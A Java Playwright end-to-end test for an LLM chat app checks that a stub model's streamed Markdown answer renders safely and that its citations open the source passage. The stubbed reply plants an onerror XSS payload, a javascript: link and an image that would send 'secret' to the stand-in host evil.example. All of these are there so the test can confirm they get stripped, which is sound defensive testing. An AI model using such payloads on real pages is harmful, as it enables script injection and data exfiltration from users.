package dev.docent.llm;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.assertions.LocatorAssertions;
import dev.docent.testing.Browser;
import dev.docent.testing.Documents;
import dev.docent.testing.StubLlm;
import dev.docent.testing.StubLlm.Reply;
import dev.docent.testing.Tags;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * In a real Chromium, with a local model (the stub) writing slowly: the answer appears piece by piece, renders as
 * Markdown without running or loading anything the model wrote, and its citation opens the passage.
 */
@QuarkusTest
@TestProfile(LocalModelProfile.class)
class ModelAnswerJourneyTest {

    static final Browser browser = Browser.shared();
    static final LocatorAssertions.ContainsTextOptions WAIT =
            new LocatorAssertions.ContainsTextOptions().setTimeout(30_000);

    @TestHTTPResource("/")
    URL app;

    @Test
    void theModelsAnswerStreamsInRendersSafelyAndItsCitationOpensThePassage() {
        String tag = Tags.random();
        Documents.ingest(
                "orbelline-" + tag + ".md",
                ("# Orbelline library " + tag + "\n\nThe Orbelline library lends up to eight books per member for"
                                + " three weeks. Late returns cost twenty cents a day.\n")
                        .getBytes(StandardCharsets.UTF_8));
        StubLlm model = StubLlm.shared("local");
        model.reset();
        model.enqueue(Reply.text(
                        "Members may borrow:\n\n",
                        "- up to **eight books** [1]\n",
                        "- for three weeks [1]\n\n",
                        "<img src=x onerror=\"window.pwned=1\"> ",
                        "![tracker](https://evil.example/p.png?q=secret) ",
                        "[click me](javascript:window.pwned=2) [7]")
                .every(400));

        Page page = browser.newPage();
        List<String> errors = new ArrayList<>();
        page.onPageError(errors::add);
        page.navigate(app + "chat");
        Browser.signIn(page, "alice");
        page.waitForURL(Pattern.compile(".*/chat$"));
        assertThat(page.locator("#answer-mode")).containsText("local model stub-llama");

        page.fill("#question", "How many books can an Orbelline library member borrow?");
        page.press("#question", "Enter");
        Locator answer = page.locator(".exchange").first().locator(".answer");
        // Streaming: the first piece is on screen while the model is still writing (the Stop button is showing).
        assertThat(answer).containsText("Members may borrow", WAIT);
        assertThat(page.locator("#stop")).isVisible();
        assertThat(answer.locator(".provider")).containsText("local · stub-llama", WAIT);
        assertThat(page.locator("#stop")).isHidden();

        assertThat(answer.locator(".answer-text ul li")).hasCount(2);
        assertThat(answer.locator(".answer-text strong")).hasText("eight books");
        assertEquals(0, answer.locator("img").count(), "no image from the model is ever loaded");
        assertEquals(0, answer.locator("a").count(), "no link from the model is clickable");
        // The answer guard (issue 14) takes the model's HTML, image and foreign link out before they reach the page,
        // and says so; the renderer's own defences above (no image loaded, no link clickable) stay as a second layer.
        assertThat(answer).not().containsText("onerror");
        assertThat(answer).not().containsText("evil.example");
        assertThat(answer).containsText("were removed from this answer");
        assertThat(answer).not().containsText("[7]");
        assertEquals(null, page.evaluate("window.pwned === undefined ? null : window.pwned"));

        Locator cite = answer.locator(".answer-text .cite").first();
        assertThat(cite).hasText("1");
        cite.click();
        assertThat(page.locator("#citation-passage")).containsText("eight books per member");
        assertTrue(errors.isEmpty(), errors.toString());
        page.close();
    }
}
